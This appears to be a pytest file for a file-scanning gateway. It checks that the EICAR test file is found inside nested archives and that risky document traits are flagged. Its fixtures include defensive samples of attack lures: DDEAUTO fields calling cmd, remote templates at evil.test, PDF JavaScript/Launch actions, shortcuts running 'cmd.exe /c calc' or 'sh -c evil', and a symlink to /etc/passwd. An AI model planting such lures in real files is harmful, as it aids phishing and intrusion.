"""Every format: the file in it is found with its hash, or what hides it is told."""

from __future__ import annotations

import gzip as gzip_library
import lzma
import zlib

import pytest

from gateway.files import File, FileBounds, Opened
from gateway.files.found import Given
from gateway.files.walking import Walk, open_all
from gateway.testing import a_message
from tests.archive_samples import NAMES, sample
from tests.archives import (
    EICAR,
    EICAR_SHA256,
    RTF,
    WITH_EICAR,
    a_pdf,
    a_rar,
    a_shortcut,
    a_tar,
    a_tnef,
    a_zip,
    an_embedded_object,
    an_ole,
)


def opened(octets: bytes, name: str = "a", declared_type: str = "", bounds: FileBounds | None = None) -> Opened:
    given = Given(names=(name,), content=octets, declared_type=declared_type, part=0)
    return open_all([given], bounds or FileBounds())


def eicar(found: Opened) -> File:
    return next(one for one in found.files if one.sha256 == EICAR_SHA256)


@pytest.mark.parametrize("ending", WITH_EICAR)
def test_a_file_is_found_in(ending: str) -> None:
    octets, path = WITH_EICAR[ending]
    found = opened(octets, f"a.{ending}" if ending != "tar" else "a")
    assert (eicar(found).path, eicar(found).name, found.limits_hit) == (path, path.rpartition("/")[2], ())
    assert eicar(found).container


@pytest.mark.parametrize("ending", WITH_EICAR)
@pytest.mark.parametrize("around", ["zip", "message", "tar"])
def test_a_file_is_found_in_what_lies_in_another(ending: str, around: str) -> None:
    octets, _ = WITH_EICAR[ending]
    name = f"a.{ending}"
    if around == "message":
        found = opened(bytes(a_message(attach=(name, octets)).octets), "b.eml")
    else:
        found = opened(a_zip({name: octets}) if around == "zip" else a_tar({name: octets}), "b")
    file = eicar(found)
    assert file.path.startswith(f"b{'.eml' if around == 'message' else ''}/{name}/")
    assert file.depth >= 2


@pytest.mark.parametrize("name", [one for one in NAMES if not one.startswith(("enc", "aes", "zipcrypto", "d64", "ppmd", "bcj2"))])
def test_what_real_programs_wrote(name: str) -> None:
    found = opened(sample(name), name)
    assert eicar(found).name.lower() == "eicar.com"
    assert found.limits_hit == ()
    assert all(one.sha256 for one in found.files)


@pytest.mark.parametrize("name", ["enc.7z", "aes.zip", "zipcrypto.zip"])
def test_encrypted_members_are_listed(name: str) -> None:
    found = opened(sample(name), name)
    assert [(one.name, one.is_encrypted, bool(one.sha256)) for one in found.files] == [
        (name, True, True),
        ("eicar.com", True, False),
    ]


def test_encrypted_names() -> None:
    [file] = opened(sample("enchead.7z")).files
    assert (file.is_encrypted, file.signs) == (True, ("hidden-names",))


@pytest.mark.parametrize(
    ("name", "members"),
    [("bcj2.7z", {"prog.exe": 3000}), ("ppmd.7z", {"eicar.com": 68, "text.txt": 40000}), ("d64.zip", {"text.txt": 40000})],
)
def test_methods_without_reader_are_listed_and_told(name: str, members: dict[str, int]) -> None:
    found = opened(sample(name), name)
    assert {one.name: one.size for one in found.files[1:]} == members
    assert found.limits_hit == ("files-unsupported",)
    assert len(found.unopened) == 1


def test_rar_that_is_compressed_or_encrypted() -> None:
    found = opened(a_rar("a.exe", b"x" * 30, method=3))
    assert [(one.name, one.size, one.sha256) for one in found.files[1:]] == [("a.exe", 30, "")]
    assert found.limits_hit == ("files-unsupported",)
    found = opened(a_rar("a.exe", b"x" * 30, flags=1))
    assert [one.is_encrypted for one in found.files] == [True, True]


def test_an_extra_that_is_missing_is_a_finding(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(__import__("sys").modules, "rarfile", None)
    found = opened(a_rar("a.exe", b"x"), "a.rar")
    assert [(one.word, one.path, one.reason) for one in found.unopened] == [
        ("files-unsupported", "a.rar", "cannot look into rar: extra 'archives' is not installed")
    ]


def test_zstd_with_and_without_the_extra(monkeypatch: pytest.MonkeyPatch) -> None:
    from gateway.files import streams

    packed = b"\x28\xb5\x2f\xfd\x20" + bytes([68]) + (1 | 68 << 3).to_bytes(3, "little") + EICAR
    assert eicar(opened(packed, "eicar.com.zst")).name == "eicar.com"
    monkeypatch.setattr(streams, "ZSTD_MODULES", ())
    found = opened(packed, "eicar.com.zst")
    assert found.unopened[0].reason == "cannot look into zstd: extra 'archives' is not installed"


def document(**parts: bytes) -> bytes:
    return a_zip({"[Content_Types].xml": b"<Types/>", **{name.replace("__", "/"): octets for name, octets in parts.items()}})


RELATION = b'<Relationships><Relationship Id="1" Type="http://x/relationships/%s" Target="http://evil.test/t.dotm" TargetMode="External"/></Relationships>'
DDE = b'<w:document><w:instrText xml:space="preserve">DDE</w:instrText><w:instrText>AUTO c:\\\\cmd</w:instrText></w:document>'


@pytest.mark.parametrize(
    ("octets", "has_macros", "signs", "target"),
    [
        (document(word__document=b"<w:x/>"), False, (), ""),
        (document(**{"word__vbaProject.bin": an_ole({"VBA/dir": b"x"})}), True, (), ""),
        (document(**{"xl__macrosheets__sheet1.xml": b"<x/>"}), True, ("excel4-macros",), ""),
        (document(**{"word___rels__settings.xml.rels": RELATION % b"attachedTemplate"}), False, ("external-template",), "http://evil.test/t.dotm"),
        (document(**{"word___rels__document.xml.rels": RELATION % b"oleObject"}), False, ("external-object",), "http://evil.test/t.dotm"),
        (document(**{"word___rels__document.xml.rels": RELATION % b"hyperlink"}), False, (), ""),
        (document(**{"word__document.xml": DDE}), False, ("dde",), ""),
        (document(**{"xl__externalLinks__externalLink1.xml": b"<externalLink><ddeLink/></externalLink>"}), False, ("dde",), ""),
        (document(**{"word__embeddings__oleObject1.bin": an_ole({"CONTENTS": b"x"})}), False, ("embedded-object",), ""),
        (document(**{"word__activeX__activeX1.bin": b"x"}), False, ("activex",), ""),
        (an_ole({"WordDocument": bytes(600), "Macros/VBA/dir": b"x", "Macros/VBA/_VBA_PROJECT": b"x"}), True, (), ""),
        (an_ole({"Workbook": bytes.fromhex("0908040000000000" "8500080000000000000101ff" "0a000000")}), True, ("excel4-macros",), ""),
        (an_ole({"Workbook": bytes.fromhex("0908040000000000" "8500080000000000000001ff" "0a000000")}), False, (), ""),
        (an_ole({"PowerPoint Document": bytes.fromhex("1f00ff0314000000" "020000040c000000" "01000000" "01000000" "02000000")}), True, (), ""),
        (an_ole({"WordDocument": b"x" * 20 + b"\x13 DDEAUTO c:\\x " + bytes(50)}), False, ("dde",), ""),
        (b"{\\rtf1{\\*\\template http://evil.test/t.dotm}x}", False, ("external-template",), "http://evil.test/t.dotm"),
        (b"{\\rtf1{\\object\\objupdate}}", False, ("object-update",), ""),
        (b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:}}}", False, ("dde",), ""),
        (RTF + an_embedded_object("Equation.3", b"x" * 40).hex().encode() + b"}}}", False, ("embedded-object", "equation"), ""),
        (a_pdf(catalog=b"/OpenAction << /S /JavaScript /JS (x) >>"), False, ("javascript", "open-action"), ""),
        (a_pdf(catalog=b"/OpenAction << /S /J#61vaScript >>"), False, ("open-action", "javascript"), ""),
        (a_pdf(catalog=b"/AA << /S /Launch >>"), False, ("launch", "open-action"), ""),
        (a_shortcut("..\\cmd.exe", "/c calc"), False, ("shortcut",), "..\\cmd.exe /c calc"),
        (b"[InternetShortcut]\r\nURL=file://evil.test/x.exe\r\n", False, ("shortcut",), "file://evil.test/x.exe"),
        (b"[Desktop Entry]\nType=Application\nExec=sh -c evil\n", False, ("shortcut",), "sh -c evil"),
        (b"<?xml version='1.0'?><libraryDescription><url>\\\\evil.test\\share</url></libraryDescription>", False, ("shortcut",), "\\\\evil.test\\share"),
    ],
)  # fmt: skip
def test_what_documents_and_shortcuts_do(octets: bytes, has_macros: bool, signs: tuple[str, ...], target: str) -> None:
    found = opened(octets)
    file = found.files[0]
    assert (file.has_macros, sorted(file.signs), file.target) == (has_macros, sorted(signs), target)
    assert found.limits_hit == ()


def test_xml_of_a_document_is_no_file_and_all_else_is() -> None:
    found = opened(
        document(**{"word__document.xml": b"<w:x/>", "word__evil.xml": b"MZ", "word__media__a.png": b"\x89PNG\r\n\x1a\n"})
    )
    assert [one.path for one in found.files] == ["a", "a/word/evil.xml", "a/word/media/a.png"]


@pytest.mark.parametrize(
    ("octets", "kind"),
    [
        (an_ole({"EncryptionInfo": b"x", "EncryptedPackage": bytes(5000)}), "application/x-encrypted-office"),
        (an_ole({"WordDocument": bytes(10) + b"\x00\x01" + bytes(20)}), "application/msword"),
        (an_ole({"Workbook": bytes.fromhex("0908040000000000" "2f00020000000a000000")}), "application/vnd.ms-excel"),
        (a_pdf(trailer=b"/Encrypt 5 0 R "), "application/pdf"),
    ],
)  # fmt: skip
def test_encrypted_documents(octets: bytes, kind: str) -> None:
    file = opened(octets).files[0]
    assert (file.is_encrypted, file.type) == (True, kind)


def test_the_limits_of_a_message_are_those_of_the_file() -> None:
    octets = b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\nContent-Type: a/b; name=x\r\n\r\n" * 2_000
    found = opened(octets, "a.eml")
    assert [(one.word, one.path) for one in found.unopened] == [("mime-parts", "a.eml")]


def test_a_name_within_a_stream_of_a_pdf_is_none() -> None:
    octets = a_pdf().replace(b"trailer", b"9 0 obj << /Length 9 >>\nstream\n/JS /AA \nendstream\nendobj\ntrailer")
    assert opened(octets).files[0].signs == ()
    assert opened(octets.replace(b"endstream", b"")).files[0].signs == ("javascript", "open-action")


def test_names_within_object_streams_of_a_pdf_count() -> None:
    packed = zlib.compress(b"1 0 << /S /JavaScript /JS (x) >>")
    octets = a_pdf() + b"9 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\n" + packed + b"\nendstream\nendobj\n"
    assert opened(octets).files[0].signs == ("javascript",)


def opendocument(members: dict[str, bytes]) -> bytes:
    import io
    import zipfile

    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        for name, octets in {"META-INF/manifest.xml": b"<manifest/>", **members}.items():
            archive.writestr(name, octets)
    return file.getvalue()


def test_opendocument() -> None:
    assert opened(opendocument({"Basic/Standard/Module1.xml": b"<script/>"})).files[0].has_macros
    assert opened(opendocument({"Scripts/python/x.py": b"import os"})).files[0].has_macros
    assert not opened(opendocument({"content.xml": b"<x/>"})).files[0].has_macros
    assert opened(opendocument({"META-INF/manifest.xml": b"<m:encryption-data/>"})).files[0].is_encrypted
    assert opened(opendocument({"content.xml": b"<office:dde-source/>"})).files[0].signs == ("dde",)


def test_installers_and_mail_of_outlook_are_told_apart() -> None:
    assert opened(an_ole({"\u4840\u3f3f": b"x"})).files[0].type == "application/x-msi"
    assert opened(an_ole({"__properties_version1.0": b"x"})).files[0].type == "application/vnd.ms-outlook"


def test_a_link_in_a_tar_is_listed() -> None:
    import io
    import tarfile

    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        entry = tarfile.TarInfo("a")
        entry.type, entry.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(entry)
    link = opened(file.getvalue()).files[1]
    assert (link.signs, link.target, link.sha256) == (("link",), "/etc/passwd", "")


@pytest.mark.parametrize(("size", "limits_hit"), [(28, ()), (29, ("files-memory",))], ids=["64 MiB", "96 MiB"])
def test_a_dictionary_of_xz(size: int, limits_hit: tuple[str, ...]) -> None:
    octets = bytearray(lzma.compress(EICAR))
    octets[16] = size  # of the first block's LZMA2, as `xz -9` writes it
    octets[20:24] = zlib.crc32(octets[12:20]).to_bytes(4, "little")
    found = opened(bytes(octets), "a.xz")
    assert found.limits_hit == limits_hit
    assert (found.files[1].sha256 == EICAR_SHA256) == (not limits_hit)


def test_what_follows_a_stream() -> None:
    found = opened(gzip_library.compress(EICAR) + b"and more", "a.gz")
    assert (found.files[0].signs, found.files[1].sha256) == (("appended-data",), EICAR_SHA256)
    both = opened(gzip_library.compress(EICAR[:30]) + gzip_library.compress(EICAR[30:]), "a.gz")
    assert both.files[1].sha256 == EICAR_SHA256


def test_the_name_in_a_gzip_header() -> None:
    octets = b"\x1f\x8b\x08\x08" + bytes(6) + b"eicar.exe\0" + gzip_library.compress(EICAR)[10:]
    assert opened(octets, "a.gz").files[1].name == "eicar.exe"


@pytest.mark.parametrize("ending", [one for one in WITH_EICAR if one not in {"eml", "pdf", "rtf", "exe", "docx"}])
def test_half_of_a_file_is_told(ending: str) -> None:
    octets, _ = WITH_EICAR[ending]
    found = opened(octets[: octets.find(EICAR) + 30] if EICAR in octets else octets[: len(octets) // 2], f"a.{ending}")
    assert found.limits_hit


def test_tnef_in_which_two_attributes_disagree_gives_both() -> None:
    octets = a_tnef(("eicar.com", EICAR), ("other.txt", b"hello"))
    found = opened(octets)
    assert [one.names for one in found.files[1:]] == [("eicar.com", "eicar.co"), ("other.txt", "other.tx")]


def test_each_file_is_seen_with_its_content() -> None:
    seen: list[tuple[str, bytes]] = []
    octets = a_zip({"eicar.com": EICAR})
    Walk(FileBounds(), lambda file, content: seen.append((file.path, bytes(content)))).run(
        [Given(names=("a.zip",), content=octets, declared_type="", part=0)]
    )
    assert seen == [("a.zip", octets), ("a.zip/eicar.com", EICAR)]
